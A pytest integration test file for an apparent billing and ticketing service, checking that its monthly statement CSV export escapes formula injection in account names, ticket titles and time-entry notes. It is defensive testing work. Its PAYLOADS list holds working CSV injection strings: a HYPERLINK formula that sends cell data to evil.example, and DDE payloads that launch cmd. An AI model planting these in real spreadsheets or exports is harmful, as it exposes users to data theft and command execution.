"""CSV injection in the statement CSV (SPEC M3; issue 11): customers write ticket titles, technicians notes,
billing account names - a spreadsheet must show them as text, never run them as formulas.

A text cell starting with = + - @ tab or CR gets a leading ``'`` (OWASP's advice); numbers stay numbers,
so a negative correction (-30 minutes) is still a number a spreadsheet can add up.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

pytestmark = pytest.mark.integration

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formula_payloads_in_names_titles_and_notes_are_text(api, billing, tech, payload):
    reply = api.post(
        "/accounts",
        {"name": "Acme " + payload, "email": f"csv-{uuid.uuid4().hex}@example.test", "plan": "member"},
        as_=billing,
    )
    account = reply.body["account_id"]
    # The name as given (strip_whitespace keeps inner text): a name that itself starts with the payload.
    api_name = api.post(
        "/accounts",
        {"name": payload.strip() or "x", "email": f"csv2-{uuid.uuid4().hex}@example.test", "plan": "member"},
        as_=billing,
    )
    assert api_name.status == 201, api_name
    assert (
        api.post(
            f"/accounts/{account}/adjustments", {"minutes": 600, "kind": "purchase", "reason": "phone"}, as_=billing
        ).status
        == 201
    )
    assert (
        api.post(
            f"/accounts/{account}/adjustments",
            {"minutes": -30, "kind": "adjustment", "reason": "correction"},
            as_=billing,
        ).status
        == 201
    )
    now = datetime.now(UTC).replace(microsecond=0)
    opened = api.post(
        "/tickets",
        {
            "account_id": account,
            "title": payload,
            "priority": "low",
            "opened_at": (now - timedelta(hours=2)).isoformat(),
        },
        as_=tech,
    )
    assert opened.status == 201, opened
    ticket = opened.body["ticket_id"]
    entry = api.post(
        f"/tickets/{ticket}/time-entries",
        {
            "work_type": "remote",
            "started_at": (now - timedelta(hours=1)).isoformat(),  # T8: work done
            "minutes": 10,
            "note": payload,
        },
        as_=tech,
    )
    assert entry.status == 201, entry
    assert api.post(f"/tickets/{ticket}/close", as_=tech).status == 200
    month = datetime.now(ZoneInfo("America/New_York")).strftime("%Y-%m")

    for who, acc in ((billing, account), (billing, api_name.body["account_id"])):
        reply = api.get(f"/accounts/{acc}/statements/{month}", as_=who, headers={"accept": "text/csv"})
        assert reply.status == 200, reply
        rows = list(csv.reader(io.StringIO(reply.body, newline="")))
        header, cells = rows[0], [c for r in rows[1:] for c in r]
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(c) for c in cells), cells
        if acc == account:
            by = {r[header.index("section")]: r for r in rows[1:]}
            title = by["ticket"][header.index("description")]
            note = by["entry"][header.index("description")]
            stored = payload.strip()  # the API keeps text stripped of outer whitespace
            assert title == ("'" + stored if stored.startswith(("=", "+", "-", "@")) else stored), title
            assert note == title, note
            minutes = [int(r[header.index("minutes")]) for r in rows[1:] if r[0] == "ledger"]
            assert -30 in minutes, rows  # a negative number is still a number
        else:
            name = next(r for r in rows[1:] if r[0] == "account")[header.index("description")]
            assert name.startswith("'"), name


def _number(cell: str) -> bool:
    try:
        int(cell)
    except ValueError:
        return False
    return True


def test_csv_cell_neutralises_text_only():
    from hourbank.statements.monthly_statement import csv_cell

    assert csv_cell(-30) == -30 and csv_cell(0) == 0
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
    assert csv_cell("Printer offline") == "Printer offline"
    assert csv_cell("") == ""
